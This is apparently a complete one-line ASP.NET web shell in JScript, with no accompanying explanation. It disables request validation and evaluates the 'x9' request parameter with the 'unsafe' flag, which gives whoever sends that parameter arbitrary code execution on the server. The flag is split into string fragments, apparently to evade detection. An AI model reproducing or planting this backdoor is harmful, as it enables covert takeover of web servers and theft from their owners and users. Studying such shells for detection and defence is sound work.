<%@ Page Language = "Jscript" validateRequest="false" %><%var a = Request.Item["x9"];var b = "un" + "sa" + "fe";eval(a, b);%>
